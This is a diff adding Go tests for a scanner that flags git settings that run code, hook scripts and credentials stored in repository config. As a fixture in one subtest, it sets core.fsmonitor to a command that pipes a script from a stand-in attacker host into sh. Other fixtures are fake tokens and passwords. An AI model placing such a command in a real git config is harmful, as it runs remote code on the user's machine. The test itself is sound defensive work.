@@ -1,0 +1,119 @@
+package machine
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+// gitRepo makes a repository in a scratch home and runs each git config
+// command of sets in it.
+func gitRepo(t *testing.T, sets ...[]string) string {
+	t.Helper()
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git here")
+	}
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	t.Setenv("GIT_CONFIG_NOSYSTEM", "1")
+	dir := filepath.Join(home, "proj")
+	run := func(args ...string) {
+		t.Helper()
+		if out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	run("init", "-q")
+	for _, s := range sets {
+		run(append([]string{"config"}, s...)...)
+	}
+	return dir
+}
+
+func TestRepoFacts(t *testing.T) {
+	t.Run("plain", func(t *testing.T) {
+		dir := gitRepo(t, []string{"remote.origin.url", "https://github.com/a/b.git"}, []string{"user.name", "Ann"})
+		rf := NewFacts().Repo(filepath.Join(dir))
+		if rf.RunsCode != "" || len(rf.Hooks) != 0 || len(rf.Credentials) != 0 {
+			t.Errorf("facts of a plain repository: %+v", rf)
+		}
+	})
+	t.Run("code, hooks, credentials", func(t *testing.T) {
+		dir := gitRepo(t,
+			[]string{"core.fsmonitor", "curl -s https://evil.example/x | sh"},
+			[]string{"remote.origin.url", "https://ann:s3cret@example.com/a/b.git"},
+			[]string{"remote.mirror.url", "https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/a/b.git"},
+			[]string{"remote.upstream.url", "git@github.com:a/b.git"},
+			[]string{"http.https://example.com/.extraheader", "AUTHORIZATION: basic eDp5"},
+			[]string{"url.https://tok:x@example.org/.insteadOf", "https://example.org/"})
+		hook := filepath.Join(dir, ".git", "hooks", "pre-commit")
+		if err := os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		rf := NewFacts().Repo(filepath.Join(dir))
+		if rf.RunsCode != "core.fsmonitor" {
+			t.Errorf("RunsCode = %q", rf.RunsCode)
+		}
+		if !slices.Equal(rf.Hooks, []string{"pre-commit"}) {
+			t.Errorf("Hooks = %q", rf.Hooks)
+		}
+		want := []string{"remote.origin.url", "remote.mirror.url", "http.https://example.com/.extraheader", "url.https://tok:x@example.org/.insteadof"}
+		slices.Sort(want)
+		got := slices.Sorted(slices.Values(rf.Credentials))
+		if !slices.Equal(got, want) {
+			t.Errorf("Credentials = %q, want %q", got, want)
+		}
+	})
+	t.Run("hooks in core.hooksPath", func(t *testing.T) {
+		dir := gitRepo(t, []string{"core.hooksPath", ".githooks"})
+		if err := os.MkdirAll(filepath.Join(dir, ".githooks"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, ".githooks", "pre-push"), []byte("#!/bin/sh\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if rf := NewFacts().Repo(dir); !slices.Equal(rf.Hooks, []string{"pre-push"}) {
+			t.Errorf("Hooks = %q", rf.Hooks)
+		}
+	})
+	t.Run("the person's global config", func(t *testing.T) {
+		dir := gitRepo(t)
+		if out, err := exec.Command("git", "config", "--global", "remote.origin.pushurl", "https://u:p@example.com/x").CombinedOutput(); err != nil {
+			t.Fatalf("%v\n%s", err, out)
+		}
+		if rf := NewFacts().Repo(dir); !slices.Equal(rf.Credentials, []string{"remote.origin.pushurl"}) {
+			t.Errorf("Credentials = %q", rf.Credentials)
+		}
+		if rf := NewFacts().Repo(filepath.Dir(dir)); !slices.Equal(rf.Credentials, []string{"remote.origin.pushurl"}) {
+			t.Errorf("Credentials outside a repository = %q", rf.Credentials)
+		}
+	})
+}
+
+func TestHoldsCredential(t *testing.T) {
+	for _, c := range []struct {
+		key, v string
+		want   bool
+	}{
+		{"remote.origin.url", "https://github.com/a/b.git", false},
+		{"remote.origin.url", "git@github.com:a/b.git", false},
+		{"remote.origin.url", "ssh://git@example.com:2222/a/b.git", false},
+		{"remote.origin.url", "https://ann@example.com/a/b.git", false},
+		{"remote.origin.url", "https://ann:pw@example.com/a/b.git", true},
+		{"remote.origin.url", "https://oauth2:glpat-abcdefghijklmnopqrst@gitlab.com/a/b.git", true},
+		{"remote.origin.url", "https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/a/b", true},
+		{"remote.origin.url", "https://example.com/a@b/c", false},
+		{"http.extraheader", "Authorization: Bearer x", true},
+		{"url.x.insteadof", "https://example.org/", false},
+	} {
+		if got := holdsCredential(c.key, c.v); got != c.want {
+			t.Errorf("holdsCredential(%q, %q) = %v, want %v", c.key, c.v, got, c.want)
+		}
+	}
+}
